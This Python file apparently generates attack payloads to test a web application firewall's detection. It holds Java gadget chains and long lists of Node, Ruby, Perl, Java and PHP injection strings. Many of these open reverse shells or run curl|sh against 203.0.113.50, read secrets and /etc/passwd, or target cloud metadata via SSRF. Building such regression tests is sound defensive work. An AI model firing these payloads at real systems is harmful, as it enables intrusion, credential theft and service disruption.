"""Blind set "hundredsixtysecond": a penetration test of this very product for the generic (Node.js, SSRF,
prototype pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles, with
benign requests in which the same product names, keywords and syntax appear innocently.

The angle: a tester who read README.md, app/ and tokendealer/ attacks the fields the services really read, each
payload fitted to its field and aimed at what the service behind it could do with it. URL fields that a service
fetches or redirects to (a slash command's and a button's `response_url`, `redirect_uri` and `next`, TokenDealer's
`audience`) get SSRF and data: URLs aimed at the stack's own ports (TokenDealer's admin API and revocation feed on
5001, Jeeves on 5000, Redis on 6380, PostgreSQL on 5433, the metrics on 9145) and at the cloud's metadata service;
fields that are echoed into a rendered page or a Slack reply (the admin panel's user and audit searches, a client's
description, `/me/`'s place, `remember location` in a DM or `/jeeves`, a button's value, a user's name) get
template injection for every engine; fields that are logged or stored (User-Agent of an admin session,
X-Request-Id, Referer, the login's username, TokenDealer's `client_id` and `scope`) get Log4Shell; opaque tokens
and cookies (`__Host-jeeves_admin`, `__Host-jeeves_me`, the OIDC state cookie, `access_token`, `token`, a bearer)
get Java serialization streams; whole JSON documents go to the data API's PATCH/PUT bodies, the Events API body
and the interactions `payload`; parameter names go where a framework would bind them (the data API's query, the
admin panel's and `/me/`'s forms, the token endpoint's form). Each list's comment names the family, the target
technology and the field.

Families (the `sub` of each record):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadget, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson), class-loading,
    jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to the real field it targets (placements named after the route and
field: `api-json:name`, `admin-query:users`, `slack-cmd:response_url`, `td-form:scope`, `cookie:admin`,
`hdr:User-Agent`, ...; a header or cookie field falls back to the list's first body field when the payload is not
one printable line), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are
not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter
names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body,
or in User-Agent, Referer, a custom header or a cookie. Whole documents go as whole bodies (rs-json-body,
rs-xml), `name=value` bindings as a raw body or a parameter name, file names as a multipart file name, raw
serialization streams percent-encoded as Latin-1 (a str body cannot carry bytes).

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone, after reading README.md, app/ and tokendealer/ for the real routes and fields; no WAF rule,
engine source, ruleset regression test or public payload list was read. The Java serialization streams are built
here byte by byte (small streams in ObjectOutputStream's grammar; the gadget streams are chains of objects, each
holding the next in one field, named after the classes of the public gadget chains). Measured once on unchanged
code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import json
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import RS_NAMES, RS_PATHS, BlindSet, Put, Record, header_safe, request
from .family_gen import _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import SLACK_UA, numbered, print_records, slack_escape

NAME = "hundredsixtysecond"

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams, written byte by byte (protocol version 2)
MAGIC = b"\xac\xed\x00\x05"
STRING_ARRAY = "[Ljava.lang.String;"


def _utf(text: str) -> bytes:
    raw = text.encode()
    return struct.pack(">H", len(raw)) + raw


def _desc(name: str, suid: int, flags: int, fields: list[bytes]) -> bytes:
    """TC_CLASSDESC with no annotation and no superclass (TC_ENDBLOCKDATA, TC_NULL)."""
    return b"r" + _utf(name) + struct.pack(">qBH", suid, flags, len(fields)) + b"".join(fields) + b"xp"


def _ofield(name: str, sig: str = "Ljava/lang/Object;") -> bytes:
    return b"L" + _utf(name) + b"t" + _utf(sig)


def _strings(*items: str) -> bytes:
    return b"u" + _desc(STRING_ARRAY, -5921575005990323385, 2, []) + struct.pack(">i", len(items)) \
        + b"".join(b"t" + _utf(s) for s in items)


def _chain(links: list[tuple[str, int, str]], *leaf: str) -> bytes:
    """A gadget chain: each object holds the next in its one field; the last holds a String[]."""
    out = MAGIC
    for cls, suid, field in links:
        out += b"s" + _desc(cls, suid, 2, [_ofield(field)])
    return out + _strings(*leaf)


SER_COMMAND = MAGIC + b"t" + _utf("sh -c 'curl http://203.0.113.50/s|sh'")
SER_DATE = MAGIC + b"s" + _desc("java.util.Date", 7523967970034938905, 3, []) + b"w\x08" \
    + struct.pack(">q", 1719000000000) + b"x"
SER_BOOLEAN = MAGIC + b"s" + _desc("java.lang.Boolean", -3665804199014368530, 2, [b"Z" + _utf("value")]) + b"\x01"
SER_HASHSET = MAGIC + b"s" + _desc("java.util.HashSet", -5024744406713321676, 3, []) + b"w\x0c" \
    + struct.pack(">ifi", 16, 0.75, 1) + b"t" + _utf("admin") + b"x"
SER_BYTES = MAGIC + b"u" + _desc("[B", -5984413125824719648, 2, []) + struct.pack(">i", 8) \
    + b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
SER_ARGV = MAGIC + _strings("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1")
SER_PROXY = MAGIC + b"s}" + struct.pack(">i", 1) + _utf("java.util.Map") + b"x" \
    + b"r" + _utf("java.lang.reflect.Proxy") + struct.pack(">qBH", -2222568056686623797, 2, 1) \
    + _ofield("h", "Ljava/lang/reflect/InvocationHandler;") + b"xp" + b"p"

CC = "org.apache.commons.collections.functors."
CC4 = "org.apache.commons.collections4."
AIH = ("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397, "memberValues")
LAZY = ("org.apache.commons.collections.map.LazyMap", 7990956402564206740, "factory")
CHAINED = (CC + "ChainedTransformer", 3514945074733160196, "iTransformers")
INVOKER = (CC + "InvokerTransformer", -8653385846894047688, "iArgs")
TIED = ("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205, "map")
TEMPLATES = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707, "_bytecodes")
PQ = ("java.util.PriorityQueue", -7720805057305804111, "comparator")
RUN = ("getRuntime", "invoke", "exec", "sh -c id")
GADGETS = {
    "cc1": _chain([AIH, LAZY, CHAINED, INVOKER], *RUN),
    "cc2": _chain([PQ, (CC4 + "comparators.TransformingComparator", -3456940356043606220, "transformer"),
                   (CC4 + "functors.InvokerTransformer", -8653385846894047688, "iArgs"), TEMPLATES],
                  "newTransformer", "yv66vgAAADIANAoACAAkCgAlACYIACcKACUAKA"),
    "cc3": _chain([AIH, LAZY, CHAINED, (CC + "InstantiateTransformer", 3786388740793356347, "iArgs"),
                   ("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter", 1, "_templates"), TEMPLATES],
                  "yv66vgAAADQAHwoABgARCQASABMIABQKABUAFg"),
    "cc5": _chain([("javax.management.BadAttributeValueExpException", -3105272988410493376, "val"), TIED, LAZY,
                   CHAINED, INVOKER], *RUN),
    "cc6": _chain([("java.util.HashSet", -5024744406713321676, "map"), TIED, LAZY, CHAINED, INVOKER],
                  "getRuntime", "invoke", "exec", "curl http://203.0.113.50/cc6"),
    "cc7": _chain([("java.util.Hashtable", 1421746759512286392, "table"), LAZY, CHAINED, INVOKER],
                  "getRuntime", "invoke", "exec", "touch /tmp/cc7"),
    "beanutils": _chain([PQ, ("org.apache.commons.beanutils.BeanComparator", -2044202215314119608, "comparator"),
                         TEMPLATES], "outputProperties", "yv66vgAAADIAOQoAAwAiBwA3BwAlBwAmAQAQ"),
    "spring1": _chain([("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                        -5890917364549436493, "provider"),
                       ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandl"
                        "er", 1, "objectFactory"), TEMPLATES], "newTransformer", "getType"),
    "spring2": _chain([("org.springframework.aop.framework.JdkDynamicAopProxy", 5531744639992436476, "advised"),
                       ("org.springframework.aop.framework.AdvisedSupport", 2651364800145442165, "targetSource"),
                       ("org.springframework.aop.target.SingletonTargetSource", 9031246629662423738, "target"),
                       TEMPLATES], "newTransformer"),
    "groovy1": _chain([AIH, ("org.codehaus.groovy.runtime.ConvertedClosure", 1, "delegate"),
                       ("org.codehaus.groovy.runtime.MethodClosure", 1, "owner")], "execute", "id"),
    "jdk7u21": _chain([("java.util.LinkedHashSet", -2851667679971038690, "map"), AIH, TEMPLATES],
                      "f5a5a608", "getOutputProperties"),
    "c3p0": _chain([("com.mchange.v2.c3p0.PoolBackedDataSource", -2440276001331856049, "connectionPoolDataSource"),
                    ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", -2463779137049102932,
                     "reference"), ("javax.naming.Reference", -1673475790065791735, "addrs")],
                   "Exploit", "http://203.0.113.50:8000/"),
    "rome": _chain([("java.util.HashMap", 362498820763181265, "table"),
                    ("com.sun.syndication.feed.impl.ObjectBean", -3620839138939219478, "_equalsBean"),
                    ("com.sun.syndication.feed.impl.ToStringBean", -3096093713498098318, "_obj"), TEMPLATES],
                   "getOutputProperties"),
    "hibernate1": _chain([("java.util.HashMap", 362498820763181265, "table"),
                          ("org.hibernate.engine.spi.TypedValue", -6287431880713478463, "type"),
                          ("org.hibernate.type.ComponentType", 1, "componentTuplizer"),
                          ("org.hibernate.tuple.component.PojoComponentTuplizer", 1, "getters"),
                          ("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 1, "method"), TEMPLATES],
                         "getOutputProperties"),
    "jrmp": _chain([("java.rmi.server.RemoteObjectInvocationHandler", 2, "ref"),
                    ("sun.rmi.server.UnicastRef", 1, "ep")], "203.0.113.50", "1099"),
    "rhino": _chain([("javax.management.BadAttributeValueExpException", -3105272988410493376, "val"),
                     ("org.mozilla.javascript.NativeError", 1, "prototypeObject"),
                     ("org.mozilla.javascript.NativeJavaObject", 1, "javaObject"), TEMPLATES], "newTransformer"),
    "beanshell": _chain([PQ, ("bsh.XThis$Handler", 1, "this$0"), ("bsh.XThis", 1, "namespace")],
                        "compare(Object foo, Object bar) {new java.lang.ProcessBuilder(new String[]{\"id\"}).start()"
                        ";return new Integer(1);}"),
    "fileupload": _chain([("org.apache.commons.fileupload.disk.DiskFileItem", 2237570099615271025, "repository")],
                         "/var/www/html/s.jsp\u0000", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    "jython": _chain([PQ, ("org.python.core.PyFunction", 1, "__code__"), ("org.python.core.PyBytecode", 1, "co_code")],
                     "import os; os.system('id')"),
    "vaadin": _chain([("javax.management.BadAttributeValueExpException", -3105272988410493376, "val"),
                      ("com.vaadin.data.util.PropertysetItem", 1, "map"),
                      ("com.vaadin.data.util.NestedMethodProperty", 1, "instance"), TEMPLATES], "outputProperties"),
}


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _gzb64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


def _text(raw: str) -> str:
    return _b64(raw.encode())


# ----------------------------------------------------------------------------------------------------------------
# Payload lists. Each is registered in FAMILIES with its category, sub-family, the real fields it targets (cycled),
# its kind (text, latin, kv, doc, filename) and, for Slack message text, the words typed before it.

# --- generic: nodejs-injection ----------------------------------------------------------------------------------
# Node.js (a vm/eval of the text by a Node consumer of Jeeves' events: a Slack workflow step, a bot framework):
# the DM / @mention text, `/jeeves` text, a button's value
NODE_SLACK = [
    "require('child_process').execSync('curl -s http://203.0.113.50/n?h='+require('os').hostname())",
    "process.mainModule.require('child_process').exec('nc -e /bin/sh 203.0.113.50 4444')",
    "global.process.mainModule.constructor._load('child_process').execSync('id').toString()",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('env')",
    "require('fs').readFileSync('.run/secrets/slack_signing_secret','utf8')",
    "eval(\"require('child_process').spawn('/bin/sh',['-c','id'])\")",
    "new Function('return process.env')()",
    "require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('uname -a')\")",
    "process.kill(process.ppid,'SIGKILL')",
    "require('child_process').execFile('/bin/bash',['-c','id > /tmp/pwn'])",
]
# Node.js string-built code (a JS template or eval around the value): a user's name in the data API, the admin
# user search, a client's description, /me/'s place, TokenDealer's scope, the /me/ session cookie
NODE_FIELDS = [
    "'+require('child_process').execSync('id')+'",
    "\";process.exit(1);//",
    "${require('child_process').execSync('id')}",
    "');require('http').get('http://203.0.113.50/'+process.env.SLACK_CLIENT_SECRET);('",
    "require('net').connect(4444,'203.0.113.50',function(){this.pipe(require('child_process').spawn('/bin/sh')"
    ".stdin)})",
    "setTimeout('process.mainModule.require(\\'child_process\\').execSync(\\'id\\')',0)",
    "Function('return this')().process.binding('fs')",
    "module.require('child_process').execSync('ls -la /')",
    "process.env.NODE_OPTIONS='--require /tmp/evil.js'",
    "[].constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"id\")')()",
]
# --- generic: nodejs-dos ----------------------------------------------------------------------------------------
# Node.js event loop and heap (code evaluated by a Node consumer): Slack text, `/jeeves` text, a name, a description,
# a button's value
NODE_DOS_CODE = [
    "while(true){}",
    "for(;;){}",
    "new Array(1e9).fill(0)",
    "Buffer.allocUnsafe(0x7fffffff)",
    "'x'.repeat(1<<30)",
    "setInterval(function(){while(1);},1)",
    "Array.from({length:2**32-1})",
    "new ArrayBuffer(Number.MAX_SAFE_INTEGER)",
    "process.on('exit',function(){while(1);});process.exit()",
    "let a=[];while(1)a.push(new Array(1e6))",
    "(async()=>{while(1)await null})()",
    "(function f(){setImmediate(f);setImmediate(f)})()",
]
# Node.js regular expressions (a search that builds new RegExp(q), or code that runs one): the admin user and audit
# searches, the data API's team_id, /me/'s place
NODE_DOS_REGEX = [
    "/(a|aa)+$/.test('a'.repeat(50)+'b')",
    "(x+x+)+y",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    "new RegExp('(a*)*b').exec('a'.repeat(64))",
    "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.match(/^(\\w+\\s?)*$/)",
    "^(\\d+)*$",
    "((ab)*|a)*c",
]
# --- generic: ssrf-cloud-metadata --------------------------------------------------------------------------------
# the cloud's metadata service, through the URLs the services fetch or send the browser to: a slash command's and
# a button's response_url (Jeeves POSTs the answer there), Sign in with Slack's redirect_uri, the admin login's
# next (query and form), Referer, TokenDealer's audience
SSRF_META = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/api/token",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/project-id",
    "http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env?alt=text",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure"
    ".com/",
    "http://169.254.169.254/metadata/instance/compute?api-version=2021-01-01&format=json",
    "http://100.100.100.200/latest/meta-data/instance-id",
    "http://100.100.100.200/latest/user-data",
    "http://169.254.169.254/metadata/v1/id",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "https://hooks.slack.com@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254\\@hooks.slack.com/latest/meta-data/",
    "http://169.254.169.254/2009-04-04/meta-data/",
    "http://169.254.170.2/v2/metadata",
]
# the same, as Slack link markup in a message or `/jeeves` text (Slack's <url|label> form, undone by Jeeves)
SSRF_META_SLACK = [
    "<http://169.254.169.254/latest/user-data/|weather>",
    "<http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token|my location>",
]
# --- generic: ssrf-internal-ip -----------------------------------------------------------------------------------
# the stack's own loopback services (TokenDealer 5001 with its admin API and revocation feed, Jeeves 5000, the fake
# Slack 5002, Redis 6380, PostgreSQL 5433, metrics 9145) and private ranges: response_url, redirect_uri, next,
# Referer, audience
SSRF_INTERNAL = [
    "http://127.0.0.1:5001/admin-api/clients",
    "http://localhost:5001/revocations?since=0",
    "http://2130706433:5000/api/users",
    "http://0x7f000001:9145/metrics",
    "http://017700000001:5002/api/chat.postMessage",
    "http://127.1:6380/",
    "http://0:5433/",
    "gopher://127.0.0.1:6380/_AUTH%20x%0D%0ACONFIG%20SET%20dir%20/tmp%0D%0A",
    "gopher://localhost:6380/_FLUSHALL%0D%0A",
    "dict://127.0.0.1:6380/info",
    "file:///proc/self/environ",
    "file:///etc/passwd",
    "http://[::1]:5001/admin-api/clients",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:5000/admin/",
    "http://127.0.0.1.nip.io:5001/admin-api/clients",
    "https://hooks.slack.com@127.0.0.1:5001/admin-api/clients",
    "http://10.0.0.1/",
    "http://192.168.1.1/cgi-bin/luci",
    "ftp://127.0.0.1:5433/",
    "jar:http://127.0.0.1:5000/x.jar!/",
]
# --- generic: javascript-prototype-pollution ---------------------------------------------------------------------
# whole JSON documents for a Node/JS merge of the body (lodash.merge, a deep-extend): the data API's PATCH
# /api/users/<id> and PUT /api/switches/<action>, the Events API body, the interactions payload
POLLUTION_DOCS = [
    '{"settings":{"__proto__":{"is_admin":true}}}',
    '{"name":"ana","__proto__":{"isAdmin":true}}',
    '{"settings":{"constructor":{"prototype":{"alerts":true,"is_admin":true}}}}',
    '{"enabled":true,"team_id":"*","__proto__":{"team_id":"T0ADMIN"}}',
    '{"type":"event_callback","event_id":"Ev0PP1","__proto__":{"channel_type":"im","bot_id":null}}',
    '{"type":"block_actions","user":{"id":"U0123ABCD","__proto__":{"is_admin":true}},"actions":[{"action_id":"set'
    '_location","value":"x"}]}',
    '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    '{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=203.0.113.50:9229"}}',
    '{"constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}',
    '{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":"NumberLiteral",'
    '"value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],"loc":{"start":0,"end":0}}]}}',
    '{"__proto__":{"json spaces":10}}',
    '{"settings":{"__proto__":{"scope":"clients:admin","aud":"tokendealer"}}}',
]
# query and form parameter names for a qs-style parser (qs, body-parser extended): the data API's query, the admin
# panel's feature form, TokenDealer's token form, /me/'s settings form
POLLUTION_KV = [
    "__proto__[is_admin]=true",
    "__proto__.is_admin=true",
    "constructor[prototype][scope]=clients:admin",
    "constructor.prototype.audience=tokendealer",
    "__proto__[scope]=clients:admin",
    "settings[__proto__][alerts]=on",
    "filter[constructor][prototype][isAdmin]=1",
    "__proto__[timezone]=Etc/UTC&__proto__[units]=imperial",
]
# --- generic: ruby-injection -------------------------------------------------------------------------------------
# Ruby (eval / string interpolation / Kernel#open by a Ruby consumer of the data API or the Slack events): Slack
# text, a user's name, a client's description, /me/'s place, `/jeeves` text, a button's value, the admin search
RUBY = [
    "#{`id`}",
    "#{system('id')}",
    "#{%x(cat /etc/passwd)}",
    "`curl 203.0.113.50/r|sh`",
    "eval('Kernel.system(\"id\")')",
    "Kernel.exec('/bin/sh -i')",
    "system('bash -c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"')",
    "open('|curl -s http://203.0.113.50/x.sh | sh').read",
    "Kernel.open('|cat /etc/shadow')",
    "IO.popen('id').readlines",
    "Object.send(:eval, 'system(\"uname -a\")')",
    "ERB.new(\"<%= `id` %>\").result(binding)",
    "instance_eval(%q{exec('id')})",
    "Class.new.class_eval('`id`')",
    "$stdout.puts(`whoami`)",
    "File.write('/tmp/x.rb', 'system(\"id\")'); load '/tmp/x.rb'",
    "Process.spawn('nc 203.0.113.50 4444 -e /bin/sh')",
    "eval(Base64.decode64('c3lzdGVtKCJpZCIp'))",
]
# Ruby YAML.load / Psych gadgets (a YAML document where a Ruby consumer loads a field): a name, a description,
# a button's value
RUBY_YAML = [
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! \"foo; system('id'); __END__\"\n"
    ": !ruby/object:OpenStruct\n  table:\n    :defaults: {}\n",
    "--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:N"
    "et::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n"
    "    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n        "
    "   sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_"
    "id: :system\n           git_set: id\n       method_id: :resolve\n",
]
# --- generic: perl-injection -------------------------------------------------------------------------------------
# Perl (eval / two-argument open / qx by a Perl script that exports users or reads the audit log): `/jeeves` text,
# Slack text, /me/'s place, a user's email, the admin login's username, the audit search
PERL = [
    "open(my $fh, '|-', 'sh -c id');",
    "open(FH, \"/bin/ls /|\"); while(<FH>){print}",
    "exec('/bin/sh','-i');",
    "eval \"system('id')\";",
    "qx{cat /etc/passwd}",
    "print `uname -a`;",
    "@{[system 'id']}",
    "${\\ system('id')}",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('203.0.113"
    ".50')));open(STDIN,'>&S');exec('/bin/sh -i');",
    "require '/tmp/evil.pm';",
    "$ENV{PATH}='/tmp';system 'ls';",
    "s//system('id')/ee",
    "|cat /etc/passwd",
    "id|",
    "local $/; open F,'</etc/passwd'; print <F>;",
    "map{system$_}('id')",
    "do{local$_='id';system$_}",
    "eval{require LWP::Simple; LWP::Simple::getstore('http://203.0.113.50/s.pl','/tmp/s.pl')}; do '/tmp/s.pl';",
    "kill 9, getppid;",
    "sprintf('%s', `id`)",
]
# --- generic: php-data-scheme ------------------------------------------------------------------------------------
# PHP include / file_get_contents of a data: stream (a PHP tool fed the URL or template fields): redirect_uri, next,
# response_url, TokenDealer's audience, Sign in with Slack's `for`, a timezone setting
PHP_DATA = [
    "data://text/plain;base64," + _text("<?php system($_GET['c']); ?>"),
    "data:text/plain,<?php system('id'); ?>",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain;base64," + _text("<?php echo shell_exec($_REQUEST['x']); ?>"),
    "data://text/plain;base64," + _text("<?php file_put_contents('/var/www/html/s.php','<?php system($_GET[1]);'); ?>"),
    "data:application/x-php;base64," + _text("<?php passthru('cat /etc/passwd'); ?>"),
    "data:,<?php readfile('/etc/passwd'); ?>",
    "data:text/plain;charset=utf-8,<?php assert($_POST['a']); ?>",
    "data://text/plain;charset=utf-8;base64," + _text("<?php exec('id',$o);print_r($o); ?>"),
    "DaTa://text/plain;base64," + _text("<?php system('whoami'); ?>"),
    "data:image/png;base64," + _b64(b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>"),
    "php://filter/read=convert.base64-decode/resource=data://plain/text," + _text("<?php system('id');?>"),
    "data://text/plain;base64," + _text("<?= `$_GET[0]` ?>"),
    "data:text/html;base64," + _text("<?php eval(base64_decode($_POST['p'])); ?>"),
    "data://text/plain,<?php $s=fsockopen('203.0.113.50',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "data://text/plain;base64," + _text("<?php highlight_file('/var/www/html/config.php'); ?>"),
    "data:;base64," + _text("<?php include('http://203.0.113.50/s.txt'); ?>"),
    "data:text/plain,<?php $s=fsockopen('203.0.113.50',4444);proc_open('/bin/sh',[$s,$s,$s],$p); ?>",
    "data://text/plain;base64," + _text("<?php mail('x@attacker.example','k',file_get_contents('/etc/passwd')); ?>"),
    "data:text/plain,<?=`curl 203.0.113.50/p|sh`?>",
]

# --- java: java-class-names --------------------------------------------------------------------------------------
# Java (a Java consumer that evaluates the text: a Spring or Groovy Slack bot, a BeanShell report): Slack text,
# a user's name, the admin search, a client's description, /me/'s timezone, TokenDealer's scope, User-Agent
JAVA_CLASSES = [
    "java.lang.Runtime.getRuntime().exec(\"curl http://203.0.113.50/j\")",
    "new java.lang.ProcessBuilder(\"cat\",\"/etc/passwd\").start()",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "java.lang.System.exit(0)",
    "java.lang.System.getenv()",
    "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "new java.io.FileInputStream(\"/etc/passwd\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),\"id\")",
    "new javax.naming.InitialContext().lookup(\"rmi://203.0.113.50:1099/Exploit\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"sun.misc.Unsafe\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"new java.lang.ProcessBuilder['(ja"
    "va.lang.String[])'](['id']).start()\")",
    "new groovy.lang.GroovyShell().evaluate('\"id\".execute().text')",
    "java.lang.Runtime.getRuntime().halt(1)",
    "java.lang.ProcessImpl.start(new String[]{\"id\"},null,null,null,false)",
    "new bsh.Interpreter().eval(\"exec('id')\")",
    "javax.script.ScriptEngineManager m=new javax.script.ScriptEngineManager();m.getEngineByName(\"groovy\")"
    ".eval(\"'id'.execute()\")",
]
# --- java: java-process-spawn ------------------------------------------------------------------------------------
# Java process creation (the same Java consumers): `/jeeves` text, a user's email, the feature form's team_id,
# /me/'s place, the Slack sign-in form's user_id, the OIDC callback's code, a button's value
JAVA_SPAWN = [
    "Runtime.getRuntime().exec(\"bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(new String[]{\"cmd.exe\",\"/c\",\"whoami\"})",
    "new ProcessBuilder(\"/bin/sh\",\"-c\",\"wget -qO- http://203.0.113.50/s|sh\").start()",
    "new ProcessBuilder(java.util.Arrays.asList(\"id\")).start()",
    "Runtime.getRuntime().exec(\"nc 203.0.113.50 4444 -e /bin/sh\")",
    "'curl http://203.0.113.50/g'.execute().text",
    "Runtime.getRuntime().exec(\"/bin/bash -c $@|bash 0 echo bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\")",
    "new java.lang.ProcessBuilder(new String[]{\"python3\",\"-c\",\"import pty;pty.spawn('/bin/sh')\"}).start()",
    "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/spel\")",
    "@java.lang.Runtime@getRuntime().exec(\"id\")",
    "Runtime.getRuntime().exec(\"ping -c 3 203.0.113.50\").waitFor()",
    "ProcessBuilder pb=new ProcessBuilder(\"sh\",\"-c\",\"id\");pb.redirectErrorStream(true);pb.start();",
    "new ProcessBuilder().command(\"id\").start()",
    "Runtime.getRuntime().exec(\"powershell -enc JABjAD0AJwBpAGQAJwA=\")",
    "java.lang.Runtime.getRuntime().exec(System.getProperty(\"cmd\",\"id\"))",
    "Runtime.getRuntime().exec(\"curl -d @/etc/passwd http://203.0.113.50/\")",
    "new ProcessBuilder(\"bash\",\"-c\",\"exec 5<>/dev/tcp/203.0.113.50/4444;cat <&5|bash >&5 2>&5\").start()",
    "Runtime.getRuntime().exec(\"rm -rf /tmp/jeeves\")",
]
# --- java: java-serialization ------------------------------------------------------------------------------------
# ObjectInputStream (a Java service that reads the field as a serialized object): raw streams, percent-encoded
# Latin-1, in /me/'s timezone, a client's description, the data API's team_id, verify_token's access_token, the
# OIDC callback's code
JAVA_SER_RAW = [
    _latin(SER_COMMAND),
    _latin(SER_DATE),
    _latin(SER_BOOLEAN),
    _latin(SER_HASHSET),
    _latin(SER_BYTES),
    _latin(SER_PROXY),
]
# the same streams in Base64 / hex / gzip (opaque tokens and cookies a Java service would deserialize): the admin
# and /me/ session cookies, access_token, introspect's token, a button's value, a name, the OIDC state cookie, a
# bearer
JAVA_SER_ENCODED = [
    _b64(SER_COMMAND),
    _b64(SER_DATE),
    _b64(SER_HASHSET),
    _b64(SER_ARGV),
    _b64(SER_PROXY),
    _b64(SER_BOOLEAN),
    SER_ARGV.hex(),
    SER_BYTES.hex().upper(),
    _gzb64(SER_HASHSET),
    _gzb64(SER_ARGV),
    base64.urlsafe_b64encode(SER_PROXY).decode().rstrip("="),
    base64.encodebytes(SER_ARGV).decode().strip(),
]
# --- java: java-deserialization-gadget --------------------------------------------------------------------------
# gadget chains (commons-collections, beanutils, Spring, Groovy, JDK7u21, C3P0, ROME, Hibernate, JRMP, Rhino,
# BeanShell, FileUpload, Jython, Vaadin) in Base64, where a Java service deserializes a token or cookie: the admin
# and /me/ session cookies, access_token, introspect's token, a button's value, a name, the OIDC state, a bearer
GADGETS_B64 = [_b64(GADGETS[k]) for k in ("cc1", "cc2", "cc3", "cc5", "cc6", "cc7", "beanutils", "spring1",
                                           "spring2", "groovy1", "jdk7u21", "c3p0", "rome", "hibernate1")]
# raw gadget streams (percent-encoded Latin-1) and gzip/hex forms: /me/'s timezone, a description, team_id,
# access_token, the OIDC code
GADGETS_RAW = [
    _latin(GADGETS["jrmp"]),
    _latin(GADGETS["rhino"]),
    _latin(GADGETS["beanshell"]),
    _latin(GADGETS["fileupload"]),
]
GADGETS_PACKED = [
    _gzb64(GADGETS["jython"]),
    _gzb64(GADGETS["cc1"]),
    GADGETS["vaadin"].hex(),
]
